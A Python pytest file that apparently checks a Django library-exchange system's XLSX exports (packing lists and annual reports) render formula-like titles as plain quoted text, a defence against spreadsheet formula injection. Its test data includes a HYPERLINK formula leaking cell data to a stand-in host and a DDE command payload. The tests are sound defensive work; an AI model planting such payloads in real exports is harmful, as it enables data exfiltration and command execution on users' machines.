"""No value of ours becomes a live formula in a workbook we write (OWASP: CSV injection)."""

from __future__ import annotations

import datetime
import io

import pytest
from django.test import Client
from django.utils import translation
from openpyxl import load_workbook

from kopir.bibliography.models import Publication
from kopir.bibliography.tests.factories import publication as make_publication
from kopir.core.audit import SYSTEM, Change
from kopir.exchange.imports import marc_import
from kopir.exchange.models import BibRecord, ShipmentStatus
from kopir.exchange.shipments import ItemInput, shipment_create, shipment_move
from kopir.exchange.tests import fixtures
from kopir.reports.params import ReportParams
from kopir.reports.registry import build, renderers

pytestmark = pytest.mark.django_db
ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Открыть")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(data: bytes) -> dict[str, tuple[str, bool]]:
    book = load_workbook(io.BytesIO(data))
    out = {}
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
                    out[cell.value] = (cell.data_type, bool(cell.quotePrefix))
    return out


def test_a_marc_title_is_text_in_the_packing_list(network, editor, other_editor) -> None:
    own = network["central"]
    records = [fixtures.marc21_record(title, "Иванов, И. И.", "2001") for title in ATTACKS[:4]]
    marc_import(io.BytesIO(fixtures.utf8_file(*records)), organisation=own, change=SYSTEM)
    books = list(BibRecord.objects.filter(organisation=own).order_by("pk"))
    shipment = shipment_create(
        sender=own, recipient=network["regional"], kind="gift", change=SYSTEM,
        items=[ItemInput(book, 1) for book in books],
    )  # fmt: skip
    shipment_move(shipment, ShipmentStatus.AGREED, change=Change(actor=other_editor))
    client = Client()
    client.force_login(editor)
    response = client.get(f"/ru/exchange/shipment/{shipment.pk}/packing.xlsx")
    cells = _cells(response.content)
    for title in ATTACKS[:4]:
        stored = next(value for value in cells if value.startswith(title.rstrip(".")[:12]))
        assert cells[stored] == ("s", True)


def test_a_reference_starting_with_a_formula_sign_is_text_in_the_report(network) -> None:
    publication = make_publication(network["central"])
    for attack in ATTACKS:
        Publication.objects.filter(pk=publication.pk).update(
            csl={**publication.csl, "title": attack, "author": []}, title=attack
        )
        year = publication.year or 2020
        params = ReportParams(
            start=datetime.date(year, 1, 1), end=datetime.date(year, 12, 31), language="ru"
        )
        with translation.override("ru"):
            cells = _cells(renderers["xlsx"].render(build("annual", params)))
        formula_like = [v for v in cells if v.lstrip("\t\r").startswith(("=", "+", "-", "@"))]
        assert any(attack.strip() in v for v in formula_like), attack
        assert all(cells[v] == ("s", True) for v in formula_like if v[0] in "=+-@\t\r")
